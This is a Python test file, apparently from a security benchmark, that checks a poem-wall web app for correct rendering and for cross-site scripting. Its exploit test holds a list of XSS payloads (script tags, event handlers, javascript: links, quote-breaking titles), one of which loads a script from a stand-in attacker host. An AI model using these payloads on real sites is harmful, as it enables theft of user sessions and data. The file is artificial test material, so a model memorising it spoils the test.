import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

from eval.bench.testing import CheckFailed, PythonTarget, check, check_equal, require

# What a JavaScript program does not run: its strings and comments.
STRING = r"""'(?:[^'\\\r\n]|\\.)*'|"(?:[^"\\\r\n]|\\.)*"|`(?:[^`\\$]|\\.|\$(?!\{))*`"""
COMMENT = r"//[^\r\n\u2028\u2029]*|/\*.*?\*/"
ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f"}


@dataclass
class Poem:
    title: str = ""
    lines: list[str] = field(default_factory=lambda: [""])
    buttons: list[list[str]] = field(default_factory=list)


class Wall(HTMLParser):
    """Reads a page: its poems, and what would run `steal()`."""

    def __init__(self, page: str):
        super().__init__()
        self.poems: list[Poem] = []
        self.poem: Poem | None = None
        self.part = ""
        self.attacks: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            code = re.sub(r"[\x00-\x20]", "", value or "").lower()
            handler = name.startswith("on") and calls_steal(value or "")
            address = name in ("href", "src") and code.startswith("javascript:steal()")
            other = (tag, name) in (("script", "src"), ("iframe", "srcdoc")) and "steal" in code
            if handler or address or other:
                self.attacks.append(f"<{tag} {name}={value!r:.200}>")
        if tag == "article":
            self.poem = Poem()
            self.poems.append(self.poem)
        elif tag in ("h2", "p", "button"):
            self.part = tag
        if self.poem and tag == "br":
            self.poem.lines.append("")
        elif self.poem and tag == "button":
            self.poem.buttons.append([dict(attrs).get("onclick") or "", ""])

    def handle_endtag(self, tag: str) -> None:
        if tag == "article":
            self.poem = None
        elif tag == self.part:
            self.part = ""

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script":
            if calls_steal(data):
                self.attacks.append(f"<script> {data!r:.200}")
        elif self.poem and self.part == "h2":
            self.poem.title += data
        elif self.poem and self.part == "p":
            self.poem.lines[-1] += data
        elif self.poem and self.part == "button" and self.poem.buttons:
            self.poem.buttons[-1][1] += data


def calls_steal(script: str) -> bool:
    """Return whether a JavaScript program calls `steal`, other than in its strings and comments.

    One that does not parse calls nothing: here, one with a quote, a bracket or a string left over.
    """
    code = re.sub(
        f"({STRING})|{COMMENT}", lambda found: "@" if found[1] else " ", script, flags=re.S
    )
    brackets = re.sub(r"[^()]", "", code)
    while "()" in brackets:
        brackets = brackets.replace("()", "")
    return (
        "steal()" in code and not brackets and not re.search(r"""['"]|@\s*[\w@$]|[\w$]\s*@""", code)
    )


def applauded(handler: str) -> str:
    """Return the title that the handler passes on."""
    call = re.fullmatch(rf"\s*applaud\(\s*({STRING})\s*\)\s*;?\s*", handler, re.S)
    if call is None:
        raise CheckFailed(f"the button does {handler!r:.200}")
    units = re.sub(
        r"\\(?:u\{(\w+)\}|u(\w{4})|x(\w{2})|(.))",
        lambda found: ESCAPES.get(found[4], found[4]) or chr(int(found[found.lastindex or 0], 16)),
        call[1][1:-1],
        flags=re.S,
    )
    return units.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


def wall_after(program: PythonTarget, title: str, verse: str) -> Wall:
    program.http("POST", "/poems", form={"title": title, "verse": verse})
    reply = program.http("GET", "/wall")
    if reply.status != 200:
        # What it makes of this poem must not hide the next.
        program.restart()
    return Wall(reply.text)


def shown(wall: Wall) -> list[list[str | list[str]]]:
    """Return each poem as its title, its lines, and the title that the button applauds."""
    for poem in wall.poems:
        check_equal([text.strip() for _, text in poem.buttons], ["Applaud"], "buttons")
    return [
        [poem.title.strip(), [line.strip() for line in poem.lines], applauded(poem.buttons[0][0])]
        for poem in wall.poems
    ]


def functional_shows_a_poem(program: PythonTarget) -> None:
    reply = program.http("GET", "/wall")
    check_equal(reply.status, 200, "status")
    check((reply.header("Content-Type") or "").startswith("text/html"), "it is not HTML")
    check_equal(shown(Wall(reply.text)), [], "poems on an empty wall")
    wall = wall_after(program, "The Heron", "A grey old bird\r\nstood in the reeds.")
    expected = ["The Heron", ["A grey old bird", "stood in the reeds."], "The Heron"]
    check_equal(shown(wall), [expected])


def functional_shows_every_poem(program: PythonTarget) -> None:
    poems = [
        ["Salt & Pepper", ["One line, & no more."], "Salt & Pepper"],
        ["3 < 4, 4 > 3?", ['I said "yes"', "", "she didn't <3 {this} %s"], "3 < 4, 4 > 3?"],
        ["\u00d6de an Zo\u00eb \U0001f426", ["a", "b", "c"], "\u00d6de an Zo\u00eb \U0001f426"],
        ["Silence", [""], "Silence"],
        ["Silence", [""], "Silence"],
    ]
    for title, lines, _ in poems:
        wall_after(program, title, "\n".join(lines))
    check_equal(shown(Wall(program.http("GET", "/wall").text)), poems)


def exploit_injects_code(program: PythonTarget) -> None:
    require(len(wall_after(program, "The Heron", "A bird").poems) == 1, "a poem is not shown")
    markup = [
        "<script>steal()</script>",
        "<ScRiPt>steal()</ScRiPt>",
        "<scr<script>ipt>steal()</scr</script>ipt>",
        "<script src=//evil.example/steal.js></script>",
        "<img src=x onerror=steal()>",
        "<IMG SRC=x OnError=steal()>",
        "<img src=x onerror=steal() ",
        "<svg/onload=steal()>",
        "<a href=javascript:steal()>more</a>",
        "</p></h2><iframe srcdoc=&lt;script&gt;parent.steal()&lt;/script&gt;></iframe>",
        "&lt;img src=x onerror=steal()&gt;",
    ]
    titles = [
        f"{start}{middle}"
        for start in ("'", '"', "\\'", '\\"', "&#39;", "&quot;", "\\u0027", "`", "\\", "")
        for middle in (");steal();//", " onfocus=steal() autofocus x=")
    ]
    titles += ["'-steal()-'", '"-steal()-"', "`-steal()-`", "&#39;-steal()-&#39;", "\\'-steal()//"]
    titles += ["${steal()}", "steal()", 'x" onclick="steal()', "x' onclick='steal()"]
    titles += ['"><img src=x onerror=steal()>', "'><img src=x onerror=steal()>"]
    titles += ["</script><img src=x onerror=steal()>", "')\nsteal()//", "x\u2028steal()//"]
    poems = [("The Heron", verse) for verse in markup]
    poems += [(title, "A bird") for title in (*markup, *titles)]
    poems += [("The Heron", "A bird\n" + title) for title in titles if "img" in title]
    for title, verse in poems:
        wall = wall_after(program, title, verse)
        check(not wall.attacks, f"{title!r}, {verse!r} gives {wall.attacks}")
